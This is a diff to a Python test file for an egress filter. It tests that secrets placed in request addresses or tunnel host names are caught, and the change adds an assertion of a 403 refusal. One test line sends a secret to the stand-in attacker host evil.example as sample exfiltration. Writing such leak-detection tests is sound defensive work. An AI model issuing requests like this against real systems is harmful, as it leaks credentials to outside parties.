@@ -62,8 +62,9 @@ async def test_a_request_with_one_in_its_head_does_not_go_out(
 
 async def test_nor_to_a_host_that_is_not_allowed(trapped: Egress) -> None:
     """That it would have been refused anyway doesn't make it innocent."""
-    await ask(trapped, plain(f"http://evil.example/{SECRET}", host="evil.example"))
-    await found(trapped, "the address of a request")
+    answer = await ask(trapped, plain(f"http://evil.example/{SECRET}", host="evil.example"))
+    told = await found(trapped, "the address of a request")
+    assert (answer.status, told["method"]) == (403, "GET")
 
 
 async def test_nor_in_the_name_of_a_host_to_tunnel_to(trapped: Egress) -> None:
